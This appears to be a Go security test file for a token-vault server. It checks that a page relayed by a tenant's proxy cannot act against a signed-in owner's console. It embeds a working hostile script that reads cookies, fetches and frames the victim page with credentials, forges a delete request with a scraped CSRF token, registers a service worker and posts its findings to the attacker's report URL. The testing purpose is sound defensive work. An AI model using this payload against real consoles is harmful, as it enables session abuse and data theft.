package main

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/seed-72ea4aab/vault"
	"github.com/seed-72ea4aab/vault/console"
	"github.com/seed-72ea4aab/vault/httpserver"
	"github.com/seed-72ea4aab/vault/internal/test/browser"
	"github.com/seed-72ea4aab/vault/internal/test/must"
	"github.com/seed-72ea4aab/vault/storage/sqlite"
)

// hostilePage is a page that a tenant's proxy relays. Its script tries to use
// the console with the rights of the signed-in user, and reports the results.
const hostilePage = `<!doctype html><title>harmless</title><script>
document.title = 'owned';
(async () => {
	const asked = new URLSearchParams(location.search), victim = asked.get('victim'), got = {}
	const attempt = async (name, f) => { try { got[name] = await f() } catch { got[name] = 'refused' } }
	let page = document.implementation.createHTMLDocument()
	await attempt('cookies', () => document.cookie)
	await attempt('read', async () => {
		page = new DOMParser().parseFromString(await (await fetch(victim, {credentials: 'include'})).text(), 'text/html')
		return page.querySelector('h1').textContent
	})
	await attempt('frame', async () => {
		const frame = document.createElement('iframe')
		const loaded = new Promise((done) => { frame.onload = done })
		frame.src = victim
		document.body.append(frame)
		await loaded
		return frame.contentDocument.querySelector('h1').textContent
	})
	await attempt('delete', async () => {
		const token = page.querySelector('form[action$="/delete"] input[name=form]')
		const body = new URLSearchParams({sure: 'yes', form: token ? token.value : ''})
		const mode = token ? 'same-origin' : 'no-cors'
		const res = await fetch(victim + '/delete', {method: 'POST', credentials: 'include', mode, body, redirect: token ? 'follow' : 'manual'})
		return res.ok ? 'done' : 'refused'
	})
	await attempt('worker', async () => {
		const at = location.pathname.replace('page', 'worker.js') + '?svc-proxy-key=' + asked.get('svc-proxy-key')
		await navigator.serviceWorker.register(at, {scope: '/'})
		return 'registered'
	})
	await fetch(asked.get('report'), {method: 'POST', mode: 'no-cors', body: JSON.stringify(got)})
})()
</script><p>nothing to see</p>`

// attack is a tenant that tries to use the console of its vault, and another
// tenant with an application.
type attack struct {
	t       *testing.T
	folder  string
	env     []string
	site    *httptest.Server // of the attacker
	asked   chan string      // paths that the proxy requested
	reports chan map[string]string
	key     string // of the open proxy
	victim  string // path of the victim's application in the console
	app     *vault.Application
	v       *vault.Vault
}

func newAttack(t *testing.T) *attack {
	t.Helper()
	a := &attack{t: t, folder: t.TempDir(), asked: make(chan string, 100), reports: make(chan map[string]string, 10)}
	a.site = httptest.NewServer(http.HandlerFunc(a.serve))
	t.Cleanup(a.site.Close)
	path, key := filepath.Join(a.folder, "vault.db"), vault.NewKey()
	a.env = []string{"TOKENVAULT_DB=" + path, "TOKENVAULT_MASTER_KEY=" + key.Text()}
	store := must.Get(sqlite.Open(t.Context(), path))(t)
	a.v = must.Get(vault.Open(t.Context(), store, key, &vault.Config{Egress: vault.EgressPolicy{AllowHTTP: true, AllowPrivate: true}}))(t)
	t.Cleanup(func() { _ = a.v.Close() })
	a.tenants()
	return a
}

// tenants creates the tenants.
func (a *attack) tenants() {
	a.t.Helper()
	mallory := must.Get(a.v.CreateTenant(a.t.Context(), "Mallory"))(a.t)
	open := false
	proxy := must.Get(a.v.Tenant(mallory.ID).CreateProxy(a.t.Context(), vault.ProxyParams{Name: "p", DestinationURL: a.site.URL, RequireAuth: &open}))(a.t)
	acme := must.Get(a.v.CreateTenant(a.t.Context(), "Acme"))(a.t)
	a.app = must.Get(a.v.Tenant(acme.ID).CreateApplication(a.t.Context(), vault.ApplicationParams{Name: "Victim", Type: vault.ApplicationPrivate, Permissions: []vault.Permission{"token:read"}}))(a.t)
	a.key, a.victim = proxy.Key, "tenants/"+acme.ID.String()+"/applications/"+a.app.ID.String()
}

// serve is the attacker's site: the page, a service worker, and a place for reports.
func (a *attack) serve(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/report" {
		var got map[string]string
		_ = json.NewDecoder(r.Body).Decode(&got)
		a.reports <- got
		return
	}
	a.asked <- r.URL.Path
	w.Header().Set("Service-Worker-Allowed", "/")
	if strings.HasSuffix(r.URL.Path, ".js") {
		w.Header().Set("Content-Type", "text/javascript")
		_, _ = w.Write([]byte(`self.onfetch = () => {}`))
		return
	}
	w.Header().Set("Content-Type", "text/html")
	w.Header().Set("Set-Cookie", "planted=yes; Path=/")
	_, _ = w.Write([]byte(hostilePage))
}

// page returns the URL of the hostile page, through an API, for the attack on
// a console.
func (a *attack) page(api, console string) string {
	return api + "/proxy/page?" + url.Values{"svc-proxy-key": {a.key}, "victim": {console + a.victim}, "report": {a.site.URL + "/report"}}.Encode()
}

// survives reports whether the victim's application still exists.
func (a *attack) survives() bool {
	_, err := a.v.Authenticate(a.t.Context(), a.app.Key)
	return err == nil
}

// signedIn starts the shipped server and signs in an owner at its console.
func (a *attack) signedIn() (tab *browser.Tab, api, console string) {
	a.t.Helper()
	s := startServer(a.t, command(a.t, a.folder, append(a.env, "TOKENVAULT_ADDR=127.0.0.1:0", "TOKENVAULT_DRAIN_DELAY=0s"), "serve",
		"--console", "127.0.0.1:0", "--console-link-file", "link", "--allow-private-egress", "--demo=false"))
	link := must.Get(os.ReadFile(filepath.Join(a.folder, "link")))(a.t)
	tab = browser.Open(a.t, browser.Screen{Width: 1280, Height: 900})
	tab.Provoked = true
	tab.Navigate(strings.TrimSpace(string(link)))
	tab.Await(`document.querySelector('h1')?.textContent === 'Overview'`)
	console = strings.TrimSuffix(tab.Value(`location.href`), "overview")
	tab.Navigate(console + a.victim)
	tab.Await(`document.querySelector('h1')?.textContent.includes('Victim')`)
	return tab, s.url, console
}

// A tenant's proxy relays a page, and an owner who is signed in at the
// console opens it. The shipped server does not deliver the page.
func TestRelayedPageCannotBeOpened(t *testing.T) {
	t.Parallel()
	a := newAttack(t)
	tab, api, console := a.signedIn()
	tab.Navigate(a.page(api, console))
	must.Contain(t, "the page", tab.Value(`document.body.innerText`), "A browser may call a proxy with fetch only")
	if len(a.asked) > 0 || len(a.reports) > 0 || !a.survives() {
		t.Errorf("the page was relayed: %d requests, %d reports", len(a.asked), len(a.reports))
	}
}

// A browser that does not send the purpose of a request gets the page in a
// sandbox, where no script runs, without cookies.
func TestRelayedPageRunsNoScript(t *testing.T) {
	t.Parallel()
	a := newAttack(t)
	tab, api, console := a.signedIn()
	target := must.Get(url.Parse(api))(t)
	old := httptest.NewServer(&httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		r.SetURL(target)
		for name := range r.Out.Header {
			if strings.HasPrefix(name, "Sec-Fetch-") {
				r.Out.Header.Del(name)
			}
		}
	}})
	t.Cleanup(old.Close)
	tab.Navigate(a.page(old.URL, console))
	if title, origin := tab.Value(`document.title`), tab.Value(`self.origin`); title != "harmless" || origin != "null" {
		t.Fatalf("the page is %q at the origin %q", title, origin)
	}
	tab.AwaitComplaint("Blocked script execution")
	tab.Navigate(old.URL + "/openapi.json")
	must.Same(t, "the page has set cookies", "", tab.Value(`document.cookie`))
	if len(a.asked) == 0 || len(a.reports) > 0 || !a.survives() {
		t.Errorf("%d requests, %d reports", len(a.asked), len(a.reports))
	}
}

// If the API forwards responses unchanged, the script runs. The console of
// the shipped server has another origin, so the script gets nothing there.
func TestScriptCannotReachTheConsole(t *testing.T) {
	t.Parallel()
	a := newAttack(t)
	raw := httptest.NewServer(httpserver.Handler(a.v, &httpserver.Options{RawProxy: true}))
	t.Cleanup(raw.Close)
	tab, _, console := a.signedIn()
	tab.Navigate(a.page(raw.URL, console))
	want := map[string]string{"cookies": "planted=yes", "read": "refused", "frame": "refused", "delete": "refused", "worker": "registered"}
	if diff := cmp.Diff(want, <-a.reports); diff != "" || !a.survives() {
		t.Errorf("the application survives: %t; the script got (-want +got):\n%s", a.survives(), diff)
	}
}

// Without any protection the attack succeeds, which shows that the other
// tests can fail.
func TestAttackWorksWithoutProtection(t *testing.T) {
	t.Parallel()
	a := newAttack(t)
	mux := http.NewServeMux()
	mux.Handle("/", httpserver.Handler(a.v, &httpserver.Options{RawProxy: true}))
	mux.Handle("/console/", http.StripPrefix("/console", withoutPolicy(console.Handler(a.v, &console.Options{
		Authorize: func(*http.Request) (console.User, error) { return console.User{ID: "jane", Role: console.Owner}, nil },
	}))))
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	tab := browser.Open(t, browser.Screen{Width: 1280, Height: 900})
	tab.Provoked = true
	tab.Navigate(a.page(srv.URL, srv.URL+"/console/"))
	got := <-a.reports
	want := map[string]string{"cookies": "planted=yes", "read": got["frame"], "frame": got["frame"], "delete": "done", "worker": "registered"}
	if diff := cmp.Diff(want, got); diff != "" || !strings.Contains(got["read"], "Victim") || a.survives() {
		t.Errorf("the application survives: %t; the script got (-want +got):\n%s", a.survives(), diff)
	}
}

// withoutPolicy allows pages to be framed.
func withoutPolicy(h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.ServeHTTP(&bare{w}, r)
	})
}

type bare struct{ http.ResponseWriter }

func (b *bare) WriteHeader(code int) {
	b.Header().Del("Content-Security-Policy")
	b.ResponseWriter.WriteHeader(code)
}

func (b *bare) Write(p []byte) (int, error) {
	b.Header().Del("Content-Security-Policy")
	return b.ResponseWriter.Write(p)
}
